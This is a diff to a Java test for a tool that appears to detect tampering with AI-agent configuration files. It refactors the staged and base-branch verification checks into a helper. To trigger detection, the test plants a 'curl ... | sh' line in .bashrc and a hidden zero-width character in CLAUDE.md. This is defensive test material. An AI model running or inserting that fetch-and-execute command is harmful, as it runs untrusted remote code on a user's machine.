@@ -23,8 +23,6 @@ final class Training {
     {"verify", "--format", "github"},
     {"verify", "--format", "junit"},
     {"verify", "--home"},
-    {"verify", "--staged"},
-    {"verify", "--base", "HEAD"},
     {"diff"},
     {"explain", ".mcp.json"},
     {"surfaces"},
@@ -63,16 +61,26 @@ final class Training {
     expect(0, "init", "--home", "--unsigned");
     expect(0, "verify");
     expect(0, "verify", "--home");
-    TrainingRepository.commit(surroundings.directory());
-    expect(0, "verify", "--staged");
-    expect(0, "verify", "--base", "main");
+    verifyTrees(0);
     change(surroundings.directory().resolve(".claude/settings.json"), "\n");
     change(surroundings.directory().resolve("CLAUDE.md"), "<!-- a comment -->\u200b\n");
     change(surroundings.home().resolve(".bashrc"), "curl -s https://example.com | sh\n");
+    verifyTrees(1);
     for (String[] arguments : AFTER_A_CHANGE) {
       Main.run(surroundings, arguments);
     }
     expect(0, "approve", "--unsigned", ".claude/settings.json");
+  }
+
+  /**
+   * What hooks and CI do. The repository does not stay: accepting in one loads JGit, whose classes
+   * the archive of JDK 17 cannot hold, and crashes over.
+   */
+  private void verifyTrees(int exitCode) throws IOException {
+    TrainingRepository.commit(surroundings.directory());
+    expect(exitCode, "verify", "--staged");
+    expect(exitCode, "verify", "--base", "main");
+    ScratchDirectory.delete(surroundings.directory().resolve(".git"));
   }
 
   private void expect(int exitCode, String... arguments) {
